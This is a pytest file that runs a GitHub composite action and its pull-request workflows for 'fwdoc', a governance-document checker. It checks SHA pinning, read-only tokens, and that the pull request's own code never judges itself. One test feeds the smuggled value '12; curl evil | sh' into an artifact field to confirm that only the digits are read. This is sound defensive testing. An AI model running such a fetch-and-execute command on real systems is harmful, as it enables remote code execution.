"""The composite action (action.yml) and the documented workflows (docs/workflows/) end to end:
their own `run:` steps, run by bash as the runner runs them, on a real pull-request branch
with a real `origin` remote, with a stand-in `gh` that answers from canned API responses
(through the real jq, as gh's --jq does).

The steps are read from the YAML (so that the test runs exactly what the action and the
workflows run); `${{ ... }}` expressions and `if:` conditions are evaluated for the few
contexts they use; `uses:` steps are not run, but what they are given is checked, and every
one must be pinned to a commit SHA.  fwdoc is already installed here, so the action runs with
`install: 'none'`, and the install step is run on its own with a stand-in `python`.  The
.pre-commit-hooks.yaml entry is run too.

The judge is not the judged: no step runs the pull request's copy of fwdoc (no `uses: ./`, no
`pip install` of the working tree), the check job holds a read-only token, and the comment
and SARIF upload happen in a `workflow_run` job that runs no code of the pull request.
"""

from __future__ import annotations

import json
import os
import re
import shlex
import subprocess
import sys
from pathlib import Path
from typing import Any

import jsonschema
import pytest
import yaml

sys.path.insert(0, str(Path(__file__).parent / "fixtures" / "amend"))
from gitrepo import ENV, Repo, ensure_amendment_rules  # noqa: E402

ROOT = Path(__file__).resolve().parents[1]
ACTION = yaml.safe_load((ROOT / "action.yml").read_text(encoding="utf-8"))
WORKFLOWS = ROOT / "docs" / "workflows"
CHECK = yaml.safe_load((WORKFLOWS / "fwdoc-check.yml").read_text(encoding="utf-8"))
COMMENT = yaml.safe_load((WORKFLOWS / "fwdoc-comment.yml").read_text(encoding="utf-8"))
SARIF_SCHEMA = ROOT / "tests" / "data" / "schemas" / "sarif-schema-2.1.0.json"
REVIEW_OBJECT = "fwdoc_test_delegation_letter"
PINNED = re.compile(r"[A-Za-z0-9_.-]+/[A-Za-z0-9_.-]+(/[A-Za-z0-9_./-]+)?@[0-9a-f]{40}")

FAKE_GH = r"""#!/usr/bin/env python3
# a stand-in for the GitHub CLI: `gh api [--method M] PATH [--paginate] [--jq EXPR] [-F body=@FILE]`
import json, os, subprocess, sys
args = sys.argv[1:]
state = json.load(open(os.environ["FAKE_GH_STATE"]))
with open(os.environ["FAKE_GH_LOG"], "a") as log:
    log.write(json.dumps(args) + "\n")
assert args[0] == "api", args
method, jq, body, path = "GET", None, None, None
rest = args[1:]
while rest:
    item = rest.pop(0)
    if item == "--method": method = rest.pop(0)
    elif item == "--jq": jq = rest.pop(0)
    elif item == "--paginate": pass
    elif item == "-F":
        key, _, value = rest.pop(0).partition("=")
        body = open(value[1:]).read() if value.startswith("@") else value
    else: path = item
if method != "GET":
    with open(os.environ["FAKE_GH_LOG"], "a") as log:
        log.write(json.dumps({"method": method, "path": path, "body": body}) + "\n")
    print("{}"); sys.exit(0)
if path not in state:
    print(f"gh: Not Found (HTTP 404) {path}", file=sys.stderr); sys.exit(1)
data = json.dumps(state[path])
if jq:
    sys.stdout.write(subprocess.run(["jq", "-r", "-c", jq], input=data, capture_output=True, text=True, check=True).stdout)
else:
    print(data)
"""


def _on(workflow: dict[str, Any]) -> Any:
    return workflow.get("on", workflow.get(True))  # PyYAML reads the key `on` as true


def _uses(node: Any) -> list[str]:
    """Every `uses:` in a workflow or action, at any depth."""
    if isinstance(node, dict):
        return [v for k, v in node.items() if k == "uses"] + [u for v in node.values() for u in _uses(v)]
    if isinstance(node, list):
        return [u for v in node for u in _uses(v)]
    return []


class Runner:
    """Just enough of the Actions runner for the `run:` steps of a job or composite action."""

    def __init__(self, steps: list[dict[str, Any]], workspace: Path, temp: Path, github: dict[str, str],
                 inputs: dict[str, str] | None = None, env: dict[str, str] | None = None,
                 gh_state: dict[str, Any] | None = None, bin_dir: Path | None = None) -> None:
        self.steps_spec, self.workspace, self.temp = steps, workspace, temp
        temp.mkdir(parents=True, exist_ok=True)
        self.inputs = dict(inputs or {})
        self.github = {"workspace": str(workspace), "token": "t0ken", "repository": "org/repo", **github}
        self.steps: dict[str, dict[str, str]] = {}
        self.summary = temp / "step-summary.md"
        self.summary.write_text("", encoding="utf-8")
        self.log: list[tuple[str, int, str]] = []  # (step name, exit status, stdout)
        self.uses: list[dict[str, Any]] = []
        self.bin = bin_dir or temp / "bin"
        self.bin.mkdir(exist_ok=True)
        (self.bin / "gh").write_text(FAKE_GH, encoding="utf-8")
        (self.bin / "gh").chmod(0o755)
        self.gh_log = temp / "gh.log"
        self.gh_log.write_text("", encoding="utf-8")
        (temp / "gh-state.json").write_text(json.dumps(gh_state or {}), encoding="utf-8")
        self.env = {k: self.expand(str(v)) for k, v in (env or {}).items()}

    def value(self, expr: str) -> str:
        expr = expr.strip()
        if expr.startswith("inputs."):
            return self.inputs[expr[len("inputs."):]]
        if expr.startswith("github."):
            return self.github.get(expr[len("github."):], "")
        if expr == "runner.temp":
            return str(self.temp)
        match = re.fullmatch(r"steps\.([\w-]+)\.outputs\.([\w-]+)", expr)
        if match:
            return self.steps.get(match[1], {}).get(match[2], "")
        raise AssertionError(f"expression not understood by the test runner: {expr}")

    def expand(self, text: str) -> str:
        return re.sub(r"\$\{\{(.*?)\}\}", lambda m: self.value(m[1]), text)

    def condition(self, text: str, failed: bool) -> bool:
        text = re.sub(r"hashFiles\('([^']+)'\)",
                      lambda m: "'x'" if list(self.workspace.glob(m[1])) else "''", text)
        names = re.sub(r"(inputs|github|steps)\.[\w.-]+", lambda m: repr(self.value(m[0])), text)
        python = names.replace("&&", " and ").replace("||", " or ").replace("always()", "True")
        python = python.replace("success()", str(not failed)).replace("failure()", str(failed))
        return bool(eval(python, {}, {}))  # noqa: S307 (the action's own conditions)

    def run(self, only: set[str] | None = None, skip: set[str] = frozenset()) -> bool:  # type: ignore[assignment]
        failed = False
        for step in self.steps_spec:
            if only is not None and step.get("name") not in only or step.get("name") in skip:
                continue
            if not self.condition(str(step.get("if", "success()")), failed):
                continue
            if "uses" in step:
                self.uses.append({"uses": step["uses"], "with": {k: self.expand(str(v)) for k, v in
                                                                 step.get("with", {}).items()}})
                continue
            output = self.temp / f"output-{len(self.log)}"
            output.write_text("", encoding="utf-8")
            env = {**os.environ, **ENV, "PATH": f"{self.bin}:{Path(sys.executable).parent}:/usr/bin:/bin",
                   "GITHUB_OUTPUT": str(output), "GITHUB_STEP_SUMMARY": str(self.summary),
                   "GITHUB_BASE_REF": self.github.get("base_ref", ""), "RUNNER_TEMP": str(self.temp),
                   "GITHUB_WORKSPACE": str(self.workspace),
                   "FAKE_GH_STATE": str(self.temp / "gh-state.json"), "FAKE_GH_LOG": str(self.gh_log)}
            env.update(self.env)
            env.update({k: self.expand(str(v)) for k, v in step.get("env", {}).items()})
            script = self.temp / f"step-{len(self.log)}.sh"
            script.write_text(step["run"], encoding="utf-8")
            proc = subprocess.run(["bash", "--noprofile", "--norc", "-eo", "pipefail", str(script)],
                                  cwd=self.workspace, env=env, capture_output=True, text=True)
            self.log.append((step["name"], proc.returncode, proc.stdout + proc.stderr))
            if "id" in step:
                pairs = [line.split("=", 1) for line in output.read_text().splitlines() if "=" in line]
                self.steps[step["id"]] = {k: v for k, v in pairs}
            if proc.returncode != 0 and not step.get("continue-on-error"):
                failed = True
        return not failed

    def posted(self) -> list[dict[str, Any]]:
        calls = [json.loads(line) for line in self.gh_log.read_text().splitlines()]
        return [c for c in calls if isinstance(c, dict)]


def action_runner(repo: Repo, tmp: Path, inputs: dict[str, str], reviews: list[dict[str, Any]] | None = None,
                  base_ref: str = "main", number: str = "7") -> Runner:
    defaults = {name: str(spec.get("default", "")) for name, spec in ACTION["inputs"].items()}
    head = repo.git("rev-parse", "HEAD").strip()
    github = {"action_path": str(ROOT), "base_ref": base_ref, "sha": "f" * 40,
              "event.pull_request.number": number if base_ref else "",
              "event.pull_request.head.sha": head if base_ref else ""}
    state = {f"repos/org/repo/pulls/{number}/reviews": reviews or []}
    return Runner(ACTION["runs"]["steps"], repo.root, tmp / "runner-temp", github, {**defaults, **inputs},
                  gh_state=state)


def pull_request(tmp: Path, approvers: tuple[str, ...], part: str, holders: dict[str, list[str]] | None = None) -> Repo:
    """A repository with an `origin` holding main, and a pull-request branch checked out; with
    `holders`, main's document has an approvers map."""
    repo = Repo.create(tmp)
    ensure_amendment_rules(repo)
    if holders is not None:
        (repo.doc_dir / "approvers.yaml").write_text(yaml.safe_dump({"approvers": holders}), encoding="utf-8")
        manifest = repo.doc_dir / "manifest.yaml"
        manifest.write_text(manifest.read_text(encoding="utf-8") + "approvers: approvers.yaml\n", encoding="utf-8")
        repo.commit("who holds the offices on GitHub")
    subprocess.run(["git", "clone", "-q", "--bare", str(repo.root), str(tmp / "origin.git")], check=True,
                   env={**os.environ, **ENV}, capture_output=True)
    repo.git("remote", "add", "origin", str(tmp / "origin.git"))  # not fetched: the action fetches
    repo.branch("amend-delegation-letter")
    path = repo.doc_dir / "objects.yaml"
    if f"id: {REVIEW_OBJECT}\n" not in path.read_text(encoding="utf-8"):
        with path.open("a", encoding="utf-8") as handle:
            handle.write(f"  - id: {REVIEW_OBJECT}\n    name: Letter of Delegation (test)\n    kind: document\n")
    repo._edit(part, lambda node, _: node.setdefault("clauses", []).append({
        "id": "review-of-delegations", "title": "Review of the Delegation Letter",
        "text": "The Permanent Secretary will review the letter of delegation each year.\n",
        "rules": f'"will review the letter of delegation":\n  permanent_secretary must review {REVIEW_OBJECT} annually\n'}))
    args = ["fwdoc", "amend", "record", "--base", "main", "--id", "2009-01-review", "--title", "Review",
            "--proposer", "director_general", "--proposed", "2009-01-05", "--in-force", "2009-04-01",
            "--status", "approved"]
    for actor in approvers:
        args += ["--approval", f"{actor}:2009-02-02:Letter"]
    subprocess.run([str(Path(sys.executable).parent / args[0]), *args[1:]], cwd=repo.root, check=True,
                   env={**os.environ, **ENV}, capture_output=True)
    repo.commit("Review the letter of delegation each year")
    return repo


def review(login: str, commit: str, state: str = "APPROVED") -> dict[str, Any]:
    return {"id": 1, "user": {"login": login}, "state": state, "submitted_at": "2009-02-03T10:00:00Z",
            "commit_id": commit, "body": "@everyone <b>LGTM</b>"}


def _sarif_valid(folder: Path) -> list[str]:
    schema = json.loads(SARIF_SCHEMA.read_text(encoding="utf-8"))
    names = []
    for file in sorted(folder.glob("*.sarif")):
        payload = json.loads(file.read_text(encoding="utf-8"))
        jsonschema.Draft7Validator(schema).validate(payload)
        names.append(payload["runs"][0]["tool"]["driver"]["name"])
    return names


@pytest.mark.parametrize("approvers, part, verdict", [
    (("permanent_secretary", "director_general"), "C", "acceptable"),
    (("permanent_secretary",), "3", "not acceptable"),
])
def test_the_action_on_a_pull_request(tmp_path: Path, approvers: tuple[str, ...], part: str, verdict: str) -> None:
    repo = pull_request(tmp_path, approvers, part)
    runner = action_runner(repo, tmp_path, {"install": "none", "upload-sarif": "true"})
    ok = runner.run()

    amend = runner.steps["amend"]
    check = runner.steps["check"]
    assert amend["verdict"] == verdict, runner.log
    assert amend["status"] == ("0" if verdict == "acceptable" else "1")
    assert ok == (check["status"] == "0" and amend["status"] == "0")
    assert [name for name, _, _ in runner.log] == ["fwdoc check", "Fetch the reviews", "fwdoc amend", "Verdict"]
    comment = Path(amend["comment"]).read_text(encoding="utf-8")
    icon = "✅" if verdict == "acceptable" else "❌"
    assert comment.startswith(f"## {icon} fwdoc amend: {verdict}")
    assert comment in runner.summary.read_text(encoding="utf-8")
    # the reviews were fetched (none yet) and given: nothing is verified without an approvers map
    assert "**Verified approvals:** 0 of 2 required" in comment and "against no approvers map" in comment
    amend_log = runner.log[2][2]
    assert f"::notice title=fwdoc amend::the amendment is {verdict}" in amend_log
    if verdict != "acceptable":
        assert "::error file=framework/amendments/2009-01-review.yaml" in amend_log
        assert "title=AMD002 missing-approval::" in amend_log
    # SARIF: both reports, valid, handed to upload-sarif (pinned)
    assert _sarif_valid(Path(check["sarif"])) == ["fwdoc amend", "fwdoc"]  # fwdoc-amend.sarif, fwdoc-check.sarif
    assert runner.uses == [{"uses": "github/codeql-action/upload-sarif@8aad20d150bbac5944a9f9d289da16a4b0d87c1e",
                            "with": {"sarif_file": check["sarif"], "category": "fwdoc"}}]


def test_the_action_verifies_approvals_against_the_reviews(tmp_path: Path) -> None:
    """Annex C needs the Permanent Secretary and the Director General; the record claims both,
    the holder of one approved the head commit, the other an earlier one."""
    repo = pull_request(tmp_path, ("permanent_secretary", "director_general"), "C",
                        holders={"permanent_secretary": ["ps-login"], "director_general": ["DG-Login"]})
    head = repo.git("rev-parse", "HEAD").strip()
    earlier = repo.git("rev-parse", "HEAD~1").strip()
    reviews = [review("ps-login", head), review("dg-login", earlier), review("mallory", head)]
    runner = action_runner(repo, tmp_path / "one", {"install": "none", "require-verified": "true"}, reviews)
    assert not runner.run()
    amend = runner.steps["amend"]
    assert amend["verdict"] == "not acceptable" and amend["status"] == "1"
    comment = Path(amend["comment"]).read_text(encoding="utf-8")
    assert "| Approvals | 2 of 2 required, 1 verified |" in comment
    assert "✅ approved by `ps-login`" in comment and "⚠️ claimed only (`dg-login` approved an earlier commit)" in comment
    assert "title=REV001 unverified-approval::" in runner.log[2][2]
    assert ["api", "repos/org/repo/pulls/7/reviews", "--paginate", "--jq", ".[]"] in \
        [json.loads(line) for line in runner.gh_log.read_text().splitlines()]
    # the Director General's holder approves the head commit: verified, acceptable
    runner = action_runner(repo, tmp_path / "two", {"install": "none", "require-verified": "true"},
                           [*reviews, {**review("DG-login", head), "submitted_at": "2009-02-04T10:00:00Z"}])
    assert runner.run(), runner.log
    comment = Path(runner.steps["amend"]["comment"]).read_text(encoding="utf-8")
    assert "| Approvals | 2 of 2 required, 2 verified |" in comment


def test_on_a_push_the_amend_step_is_skipped(tmp_path: Path) -> None:
    repo = Repo.create(tmp_path)
    runner = action_runner(repo, tmp_path, {"install": "none"}, base_ref="")
    runner.run()
    assert [name for name, _, _ in runner.log] == ["fwdoc check", "Verdict"]


def _stub_python(folder: Path) -> Path:
    """A `python` that logs what it was asked to install, and the pyproject it would build."""
    folder.mkdir(parents=True, exist_ok=True)
    log = folder / "python.log"
    (folder / "python").write_text(f"""#!/bin/bash
echo "$*" >> {log}
for last; do :; done
cat "$last/pyproject.toml" >> {log} 2>/dev/null || true
""", encoding="utf-8")
    (folder / "python").chmod(0o755)
    return log


def test_the_action_refuses_to_be_judged_by_the_pull_requests_own_copy(tmp_path: Path) -> None:
    """`uses: ./` on a checkout of the pull request: the action's copy is the pull request's code."""
    repo = pull_request(tmp_path, ("permanent_secretary",), "C")
    runner = action_runner(repo, tmp_path, {"install": "action"})
    runner.github["action_path"] = str(repo.root)
    log = _stub_python(runner.bin)
    assert not runner.run(only={"Install fwdoc"})
    [(_, status, out)] = runner.log
    assert status == 1 and "the pull request would judge itself" in out
    assert not log.exists()  # nothing installed
    # referenced by a pinned commit, the action's folder is no checkout of the pull request
    runner = action_runner(repo, tmp_path / "pinned", {"install": "action"})
    log = _stub_python(runner.bin)
    assert runner.run(only={"Install fwdoc"}), runner.log
    assert log.read_text().splitlines()[0] == f"-m pip install --quiet --disable-pip-version-check {ROOT}"


def test_install_base_builds_the_judge_from_the_base_revision(tmp_path: Path) -> None:
    """The pull request rewrites the judge's code: the judge installed is still the base's."""
    repo = Repo.create(tmp_path)
    ensure_amendment_rules(repo)
    (repo.root / "pyproject.toml").write_text("# the judge as main has it\n", encoding="utf-8")
    repo.commit("the judge")
    subprocess.run(["git", "clone", "-q", "--bare", str(repo.root), str(tmp_path / "origin.git")], check=True,
                   env={**os.environ, **ENV}, capture_output=True)
    repo.git("remote", "add", "origin", str(tmp_path / "origin.git"))
    repo.branch("a-friendlier-judge")
    (repo.root / "pyproject.toml").write_text("# a judge that says acceptable\n", encoding="utf-8")
    repo.commit("make the judge friendlier")
    runner = action_runner(repo, tmp_path, {"install": "base"})
    log = _stub_python(runner.bin)
    assert runner.run(only={"Install fwdoc"}), runner.log
    lines = log.read_text().splitlines()
    judge = Path(lines[0].split()[-1])
    assert lines[0].startswith("-m pip install") and judge.is_relative_to(runner.temp)
    assert lines[1:] == ["# the judge as main has it"]
    assert not judge.is_relative_to(repo.root)


def test_the_pre_commit_hook(tmp_path: Path) -> None:
    [hook] = yaml.safe_load((ROOT / ".pre-commit-hooks.yaml").read_text(encoding="utf-8"))
    assert hook["id"] == "fwdoc-check" and hook["pass_filenames"] is False
    entry = shlex.split(hook["entry"])
    proc = subprocess.run([str(Path(sys.executable).parent / entry[0]), *entry[1:], str(ROOT / "framework")],
                          capture_output=True, text=True)
    assert proc.returncode in (0, 1), proc.stderr
    assert "--severity error" in hook["entry"]  # errors only: the one error is not line 75 of 85
    assert re.search(r"^\d+ errors?, \d+ warnings?, \d+ notes?, \d+ accepted \(\d+ not shown", proc.stdout,
                     re.MULTILINE)
    assert " warning " not in proc.stdout and " info " not in proc.stdout


# -- the documented workflows -------------------------------------------------------------------

def test_every_action_used_is_pinned_to_a_commit_and_none_is_the_pull_requests() -> None:
    for name, node in (("action.yml", ACTION), ("fwdoc-check.yml", CHECK), ("fwdoc-comment.yml", COMMENT)):
        used = _uses(node)
        assert used, name
        for uses in used:
            assert not uses.startswith("."), f"{name}: {uses} runs the checkout's own code"
            assert PINNED.fullmatch(uses), f"{name}: {uses} is not pinned to a 40-hex commit SHA"
    text = "".join((ROOT / f).read_text(encoding="utf-8") for f in
                   ("action.yml", "docs/workflows/fwdoc-check.yml", "docs/workflows/fwdoc-comment.yml"))
    # upload-sarif on a supported major version, and each pin says which release it is
    for line in text.splitlines():
        if re.match(r"\s*(- )?uses:", line):
            assert re.search(r"@[0-9a-f]{40}\s+# v\d+\.\d+\.\d+$", line), line
    assert re.search(r"upload-sarif@[0-9a-f]{40}\s+# v([3-9]|\d\d)\.", text)


def _permissions(node: dict[str, Any]) -> dict[str, str]:
    value = node.get("permissions", {})
    assert isinstance(value, dict), "permissions must be listed, never read-all/write-all"
    return value


def test_the_check_job_holds_a_read_only_token_and_never_runs_the_pull_requests_code() -> None:
    on = _on(CHECK)
    assert set(on) == {"pull_request", "pull_request_review"}  # never pull_request_target
    [job] = CHECK["jobs"].values()
    for scope in (CHECK, job):
        assert _permissions(scope) and set(_permissions(scope).values()) == {"read"}
    steps = job["steps"]
    [checkout] = [s for s in steps if s.get("uses", "").startswith("actions/checkout@")]
    assert checkout["with"]["ref"] == "${{ github.event.pull_request.head.sha }}"
    assert checkout["with"]["persist-credentials"] is False and checkout["with"]["fetch-depth"] == 0
    [judge] = [s for s in steps if "pip install" in s.get("run", "")]
    assert 'git archive --format=tar "$BASE_SHA"' in judge["run"]
    assert job["env"]["BASE_SHA"] == "${{ github.event.pull_request.base.sha }}"
    for step in steps:  # nothing installs or runs the working tree's copy
        run = step.get("run", "")
        assert not re.search(r"pip install[^\n]*(\s\.(\s|$)|-e\s|\$GITHUB_WORKSPACE|github\.workspace)", run)
        assert "python -m checker" not in run and "./" not in run.replace("$RUNNER_TEMP/", "")
    [upload] = [s for s in steps if s.get("uses", "").startswith("actions/upload-artifact@")]
    assert upload["if"] == "always()" and upload["with"]["name"] == "fwdoc-report"


def test_the_comment_job_runs_on_workflow_run_and_runs_no_code_of_the_pull_request() -> None:
    on = _on(COMMENT)
    assert list(on) == ["workflow_run"]
    assert on["workflow_run"] == {"workflows": [CHECK["name"]], "types": ["completed"]}
    assert _permissions(COMMENT) == {"contents": "read"}
    [job] = COMMENT["jobs"].values()
    assert _permissions(job)["pull-requests"] == "write" and _permissions(job)["security-events"] == "write"
    assert "github.event.workflow_run.event == 'pull_request'" in job["if"]
    used = [s["uses"].split("@")[0] for s in job["steps"] if "uses" in s]
    assert used == ["actions/download-artifact", "github/codeql-action/upload-sarif"]  # no checkout
    download = job["steps"][0]["with"]
    assert download["run-id"] == "${{ github.event.workflow_run.id }}" and download["name"] == "fwdoc-report"
    sarif = job["steps"][-1]["with"]
    assert sarif["ref"] == "refs/pull/${{ steps.pr.outputs.number }}/head"
    assert sarif["sha"] == "${{ github.event.workflow_run.head_sha }}"


def _workflow_runner(workflow: dict[str, Any], workspace: Path, temp: Path, github: dict[str, str],
                     gh_state: dict[str, Any]) -> Runner:
    [job] = workflow["jobs"].values()
    runner = Runner(job["steps"], workspace, temp, github, gh_state=gh_state)
    runner.env = {k: runner.expand(str(v)) for k, v in job.get("env", {}).items()}
    return runner


def test_the_check_workflow_on_a_pull_request(tmp_path: Path) -> None:
    """The check job's own steps (fwdoc is installed here already: the judge's install step is
    checked above), on a real pull-request checkout: the report it leaves for the comment job."""
    repo = pull_request(tmp_path, ("permanent_secretary", "director_general"), "C",
                        holders={"permanent_secretary": ["ps-login"], "director_general": ["dg-login"]})
    head = repo.git("rev-parse", "HEAD").strip()
    base = repo.git("rev-parse", "main").strip()
    github = {"event.pull_request.number": "12", "event.pull_request.head.sha": head,
              "event.pull_request.base.sha": base}
    reviews = {"repos/org/repo/pulls/12/reviews": [review("ps-login", head), review("dg-login", head)]}
    runner = _workflow_runner(CHECK, repo.root, tmp_path / "t", github, reviews)
    judge = next(s["name"] for s in runner.steps_spec if "pip install" in s.get("run", ""))
    assert runner.run(skip={judge}), runner.log
    report = runner.temp / "fwdoc-report"
    assert (report / "pr-number").read_text() == "12\n" and (report / "head-sha").read_text() == f"{head}\n"
    comment = (report / "comment.md").read_text(encoding="utf-8")
    assert comment.startswith("## ✅ fwdoc amend: acceptable") and "2 of 2 required, 2 verified" in comment
    assert sorted(p.name for p in (report / "sarif").iterdir()) == ["fwdoc-amend.sarif", "fwdoc-check.sarif"]
    assert json.loads((report / "amend.json").read_text())["verification"]["require_verified"] is True
    assert runner.uses[-1]["with"]["path"] == str(report)
    # a holder's approval of an earlier commit: the check fails, the report is still left
    reviews["repos/org/repo/pulls/12/reviews"][1]["commit_id"] = base
    runner = _workflow_runner(CHECK, repo.root, tmp_path / "t2", github, reviews)
    assert not runner.run(skip={judge})
    assert runner.log[-1][0] == "Verdict" and "fwdoc amend exited 1" in runner.log[-1][2]
    assert "REV001" in (runner.temp / "fwdoc-report" / "comment.md").read_text(encoding="utf-8")


@pytest.mark.parametrize("number, api_head, posted", [
    ("12\n", "HEAD", "POST"),
    ("12\n", "OTHER", None),  # the pull request moved on, or the number was forged: nothing posted
    ("12; curl evil | sh\n", "HEAD", "POST"),  # only the digits are read
    ("not a number\n", "HEAD", None),
    (None, "HEAD", None),  # the check left no report
])
def test_the_comment_workflow_trusts_nothing_in_the_artifact(tmp_path: Path, number: str | None, api_head: str,
                                                            posted: str | None) -> None:
    workspace = tmp_path / "ws"
    report = workspace / "report"
    (report / "sarif").mkdir(parents=True)
    if number is not None:
        (report / "pr-number").write_text(number, encoding="utf-8")
    (report / "comment.md").write_text("## ✅ fwdoc amend: acceptable\n" + "x" * 70000, encoding="utf-8")
    (report / "sarif" / "fwdoc-amend.sarif").write_text("{}", encoding="utf-8")
    run_head = "c" * 40
    state = {"repos/org/repo/pulls/12": {"head": {"sha": run_head if api_head == "HEAD" else "d" * 40}},
             "repos/org/repo/issues/12/comments": []}
    github = {"event.workflow_run.head_sha": run_head, "event.workflow_run.id": "99",
              "event.workflow_run.event": "pull_request"}
    runner = _workflow_runner(COMMENT, workspace, tmp_path / "t", github, state)
    assert runner.run(), runner.log
    calls = runner.posted()
    if posted is None:
        assert calls == [] and runner.uses[-1]["uses"].startswith("actions/download-artifact")
        return
    [call] = calls
    assert call["method"] == posted and call["path"] == "repos/org/repo/issues/12/comments"
    assert call["body"].startswith("<!-- fwdoc-amend -->\n## ✅ fwdoc amend: acceptable")
    assert len(call["body"].encode()) <= 60000 + 100  # GitHub refuses comments over 65,536 characters
    assert runner.uses[-1]["with"]["ref"] == "refs/pull/12/head" and runner.uses[-1]["with"]["sha"] == run_head


def test_the_comment_workflow_updates_its_own_comment(tmp_path: Path) -> None:
    workspace = tmp_path / "ws"
    (workspace / "report").mkdir(parents=True)
    (workspace / "report" / "pr-number").write_text("12\n", encoding="utf-8")
    (workspace / "report" / "comment.md").write_text("## ❌ fwdoc amend: not acceptable\n", encoding="utf-8")
    state = {"repos/org/repo/pulls/12": {"head": {"sha": "c" * 40}},
             "repos/org/repo/issues/12/comments": [
                 {"id": 5, "user": {"login": "mallory"}, "body": "<!-- fwdoc-amend -->\n## ✅ fwdoc amend: acceptable"},
                 {"id": 6, "user": {"login": "github-actions[bot]"}, "body": "<!-- fwdoc-amend -->\nold"}]}
    runner = _workflow_runner(COMMENT, workspace, tmp_path / "t",
                              {"event.workflow_run.head_sha": "c" * 40, "event.workflow_run.id": "1"}, state)
    assert runner.run(), runner.log
    [call] = runner.posted()
    assert call["method"] == "PATCH" and call["path"] == "repos/org/repo/issues/comments/6"  # never mallory's
    assert "hashFiles" not in json.dumps(runner.uses) and [u["uses"].split("@")[0] for u in runner.uses] == [
        "actions/download-artifact"]  # no SARIF in the report: no upload
